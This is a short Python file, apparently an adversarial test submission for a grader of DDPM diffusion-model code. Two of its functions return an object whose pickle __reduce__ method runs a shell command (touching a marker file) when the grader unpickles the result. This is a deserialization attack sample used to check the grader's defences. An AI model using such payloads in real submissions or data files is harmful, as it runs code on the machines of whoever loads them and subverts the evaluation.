"""Hostile submission: returning objects with __reduce__ (a pickle payload) instead of tensors"""
# HONEST_MAX = 4.0

import torch


def add_noise(x, sigma):
    return x + sigma * torch.randn_like(x)


def ddpm_schedule(beta1, beta2, num_ts):
    betas = torch.linspace(beta1, beta2, num_ts)
    alphas = 1 - betas
    return {"betas": betas, "alphas": alphas, "alpha_bars": torch.cumprod(alphas, 0)}


import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/fundiff-pwned",))


def ddpm_forward(unet, ddpm_schedule, x_0, num_ts):
    return Payload()


def ddpm_sample(unet, ddpm_schedule, img_wh, num_ts, seed=0, num_samples=40):
    return Payload(), [Payload()]

